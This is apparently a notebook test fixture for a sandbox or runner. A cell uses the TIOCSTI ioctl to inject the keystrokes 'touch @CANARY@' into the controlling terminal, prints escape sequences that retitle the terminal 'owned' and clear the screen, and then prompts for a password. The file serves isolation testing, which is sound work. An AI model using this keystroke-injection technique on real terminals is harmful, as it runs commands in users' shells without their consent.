# %% [markdown] right=["03_counter"] says="norm"
# A cell waits for the keyboard, and steers the terminal.

# %%
import fcntl
import os
import sys
import termios

for path in ("/dev/tty", "/dev/console", "/proc/self/fd/0", "/dev/stdin"):
    try:
        descriptor = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for character in b"touch @CANARY@\n":
            fcntl.ioctl(descriptor, termios.TIOCSTI, bytes([character]))
    except OSError:
        pass
print("\x1b]0;owned\x07\x1b[2J\x1b[5i")

# %%
input("password: ")

# %%
sys.stdin.read()
